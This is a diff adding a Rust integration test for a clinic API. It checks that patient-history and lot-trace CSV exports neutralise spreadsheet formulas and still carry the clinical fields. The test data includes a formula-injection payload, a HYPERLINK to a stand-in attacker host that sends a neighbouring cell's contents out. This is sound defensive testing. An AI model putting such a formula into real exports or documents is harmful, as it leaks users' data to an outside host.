@@ -756,3 +756,76 @@ async fn a_riverside_token_reads_riverside_only() {
     api.stop().await;
     recorders.stop().await;
 }
+
+#[tokio::test]
+async fn csv_exports_neutralise_formulas_and_carry_the_clinical_facts() {
+    let nats = NatsServer::start().await.unwrap();
+    let recorders = Recorders::start(&nats.url()).await.unwrap();
+    let client = nats.client().await.unwrap();
+    let mut injection = example_request("injection.given");
+    injection["actor"]["id"] = r#"=HYPERLINK("http://evil.example/?"&B2,"open")"#.into();
+    record_ok(&client, InjectionGiven, &injection).await;
+    let api = Api::start(&nats).await;
+    api.caught_up().await;
+
+    let (status, csv) = api
+        .get(
+            Some(COMPLIANCE),
+            "/v1/clinics/riverside/patients/P-1042/history?format=csv",
+        )
+        .await;
+    assert_eq!(status, 200, "{csv}");
+    let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let row = reader.records().next().unwrap().unwrap();
+    let cell = |name: &str| {
+        let i = headers
+            .iter()
+            .position(|h| h == name)
+            .unwrap_or_else(|| panic!("no {name}"));
+        row[i].to_owned()
+    };
+    assert_eq!(
+        cell("actor_id"),
+        r#"'=HYPERLINK("http://evil.example/?"&B2,"open")"#,
+        "the formula is text, not live"
+    );
+    assert!(
+        row.iter().all(|c| !c.starts_with(['=', '+', '-', '@'])),
+        "{row:?}"
+    );
+    assert_eq!(cell("site"), injection["payload"]["site"]["site_key"]);
+    assert!(
+        cell("solution").starts_with("dextrose"),
+        "{}",
+        cell("solution")
+    );
+    assert!(cell("lots").contains("DX50-2026-114"), "{}", cell("lots"));
+    assert_eq!(
+        cell("volume_ml"),
+        injection["payload"]["volume_ml"].to_string()
+    );
+
+    let (_, trace) = api
+        .get(
+            Some(SAFETY),
+            "/v1/clinics/riverside/lots/DX50-2026-114/trace?format=csv",
+        )
+        .await;
+    let mut reader = ::csv::Reader::from_reader(trace.as_bytes());
+    let headers: Vec<String> = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .map(str::to_owned)
+        .collect();
+    for column in ["site_key", "solution", "lots", "volume_ml", "guidance"] {
+        assert!(headers.iter().any(|h| h == column), "{headers:?}");
+    }
+    let row = reader.records().next().unwrap().unwrap();
+    let at = |name: &str| row[headers.iter().position(|h| h == name).unwrap()].to_owned();
+    assert!(at("solution").starts_with("dextrose"), "{row:?}");
+    assert!(at("lots").contains("DX50-2026-114"), "{row:?}");
+    api.stop().await;
+    recorders.stop().await;
+}
